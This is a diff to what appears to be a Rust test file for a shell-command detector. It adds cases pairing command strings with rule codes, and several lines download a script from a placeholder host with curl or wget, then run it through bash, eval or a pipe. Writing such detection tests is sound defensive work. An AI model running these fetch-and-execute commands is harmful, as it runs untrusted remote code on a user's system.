@@ -534,7 +534,27 @@ const CASES: &[(&str, &str)] = &[
     ("t=$(mktemp); wget -qO \"$t\" https://x/i; sh \"$t\"", "0055"),
     ("t=$(mktemp); curl -so \"$t\" https://x/i; chmod +x \"$t\"; \"$t\"", "0055"),
     ("f(){ curl -so \"$tmp\" https://x/i; }; tmp=$(mktemp); f; trap 'bash \"$tmp\"' EXIT", "0055"),
+    // A third review: a saved file read into a shell or printed into one, named to a program
+    // named at run time, a relative loop variable joined to a directory, and `bash FILE -n`.
+    ("curl -so i.sh https://x/i; cat i.sh | bash", "0056"),
+    ("curl -so i.sh https://x/i; eval \"$(cat i.sh)\"", "0056"),
+    ("curl -so i.sh https://x/i; for f in *.sh; do bash < \"$f\"; done", "0056"),
+    ("curl -so i.sh https://x/i; cat i.sh > j.sh; bash j.sh", "0057"),
+    ("curl -so i.sh https://x/i; \"$(command -v bash)\" i.sh", "0057"),
+    ("curl -so g/i.sh https://x/i; for f in g/*.sh; do bash \"$PWD/$f\"; done", "0057"),
+    ("t=$(mktemp); curl -so \"$t\" https://x/i; bash \"$t\" -n", "0055"),
+    ("t=$(mktemp); curl -so \"$t\" https://x/i; [ -n \"$X\" ] && t=x; bash \"$t\"", "0055"),
     // Where what is known of the name does not fit, or the file is not made executable: not.
+    // A word that names another file once its variable is assigned again; a parameter's name
+    // belongs to its function; chmod modes that add no execute; a data file given to a program.
+    ("t=$(mktemp); curl -so \"$t\" https://x/i; t=$(mktemp); bash \"$t\"", "0045"),
+    (
+        "d(){ curl -fsSL -o \"$1\" \"$2\"; }; r(){ python3 \"$1\"; }; o=$(mktemp); d \"$o\" https://x/d.json; r \"$(cat s)\"",
+        "0045",
+    ),
+    ("curl -so d.json https://x/d; chmod go+r d.json; \"$(cat n)\" . d.json", "0047"),
+    ("curl -so i.sh https://x/i; chmod u-w i.sh; \"$(cat n)\"", "0047"),
+    ("curl -so d.json https://x/d; x=$(jq -r .v d.json); echo \"$x\"", "0046"),
     ("t=$(mktemp); curl -so \"$t\" https://x/d.json; ./build.sh", "0045"),
     ("t=$(mktemp); curl -so \"$t\" https://x/i; jq . \"$t\"; bash \"$u\"", "0045"),
     ("curl -so d.json https://x/d; for t in tests/*.sh; do bash \"$t\"; done", "0047"),
